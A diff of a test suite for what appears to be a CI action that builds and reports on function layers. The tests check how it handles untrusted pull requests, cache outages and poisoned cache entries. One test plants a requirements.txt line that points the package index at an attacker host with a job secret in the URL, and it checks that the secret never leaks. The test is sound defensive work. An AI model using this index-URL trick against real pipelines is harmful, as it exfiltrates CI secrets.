@@ -58,6 +58,14 @@ describe("a pull request of strangers", () => {
     expect(written.length > 0).toBe(event.name === "pull_request");
   });
 
+  it("is not what the workspace holds where the base branch was checked out: that is told", async () => {
+    const pull = await openPullRequest({ base: functionFiles("one", "dep==1.0\n"), head: { "other.py": "" } });
+    const event = pullRequestEvent(pull, { name: "pull_request_target" });
+    const { run } = await bench.report(await checkOut(pull, "main"), pull, { "function-name": "itself" }, { event });
+    expect([run.exitCode, run.issued.warning]).toEqual([0, 1]);
+    expect(run.annotations.warning[0]?.message).toContain("holds the base branch and not the pull request");
+  });
+
   it("may be built from source when it is of a branch of the repository", async () => {
     const { files, marker } = await withProject("dep==1.0\n");
     const pull = await openPullRequest({ base: files, head: { "other.py": "" } });
@@ -92,18 +100,25 @@ describe("a pull request of strangers", () => {
   });
 
   it("gets no variable filled into its files: no figure, and no failure", async () => {
+    const evil = await startPackageIndex({ packages: [] });
     const pull = await openPullRequest({
       base: functionFiles("one", "dep==1.0\n"),
-      head: { "requirements.txt": `--index-url http://evil.localhost:9/\${SECRET_OF_JOB}/simple\ndep==2.0\n` },
+      head: { "requirements.txt": `--index-url ${evil.url}\${SECRET_OF_JOB}/simple\ndep==2.0\n` },
     });
-    const event = pullRequestEvent(pull, { name: "pull_request_target" });
-    const request = { event, env: { SECRET_OF_JOB: "hunter2-hunter2" } };
+    const workspace = await checkOut(pull, "merge");
+    const env = { SECRET_OF_JOB: "hunter2-hunter2" };
     const inputs = { "function-name": "variable" };
-    const { run, told } = await bench.report(await checkOut(pull, "merge"), pull, inputs, request);
+    const event = pullRequestEvent(pull, { name: "pull_request_target" });
+    const { run, told } = await bench.report(workspace, pull, inputs, { event, env });
     expect([run.exitCode, run.issued.error], run.stdout).toEqual([0, 0]);
+    expect(evil.requests).toEqual([]);
     expect(told.json.layer).toBeUndefined();
     expect(told.json.code?.after).toEqual(told.json.code?.before);
     expect(told.everything).not.toContain("hunter2");
+
+    await bench.report(workspace, pull, inputs, { env });
+    expect(evil.requests.map(({ path }) => path).join()).toContain("hunter2");
+    await evil.stop();
   });
 
   it("gets no credentials of a package index", async () => {
@@ -164,6 +179,25 @@ describe("a runtime that nobody names", () => {
   });
 });
 
+describe("a cache that does not work", () => {
+  it.each([
+    ["may not be read", () => stage.cache.deny("all")],
+    ["is down", () => stage.cache.outage(429)],
+    ["is not there", () => stage.cache.outage("refuse")],
+  ])("makes a report slower, and not wrong: it %s", async (_, happens) => {
+    const files = functionFiles("one", "dep==1.0\n");
+    const pull = await openPullRequest({ base: files, head: { "requirements.txt": "dep==2.0\n" } });
+    await happens();
+    const { run, told, fetches } = await bench.report(await checkOut(pull, "merge"), pull, {
+      "function-name": "cache",
+    });
+    stage.cache.deny(undefined);
+    await stage.cache.outage(undefined);
+    expect([run.exitCode, run.issued.error, fetches > 0], run.stdout).toEqual([0, 0, true]);
+    expect(told.json.layer).toMatchObject({ source: "built", changes: [{ name: "dep", from: "1.0", to: "2.0" }] });
+  });
+});
+
 describe("what others put into the cache", () => {
   const files = functionFiles("one", "dep==1.0\n");
   const inputs = { "function-name": "hostile", runtime: "python3.11", architectures: "x86_64" };
@@ -196,6 +230,10 @@ describe("what others put into the cache", () => {
     const calls = stage.cache.calls.length;
     const deployed = await bench.push(await checkOut(pull, "main"), { "function-name": name });
     expect(deployed.outputs, deployed.stdout).toMatchObject({ "layer-source": "built", "layer-changed": "true" });
+    // What a report kept is now the only manifest of this layer.
+    for (const { key } of stage.cache.entries().filter((one) => one.key.includes("-manifest-"))) {
+      stage.cache.delete(key);
+    }
     const again = await bench.push(await checkOut(pull, "main"), { "function-name": name, "memory-size": "256" });
     expect(again.outputs, again.stdout).toMatchObject({ changed: "true" });
     const read = stage.cache.calls
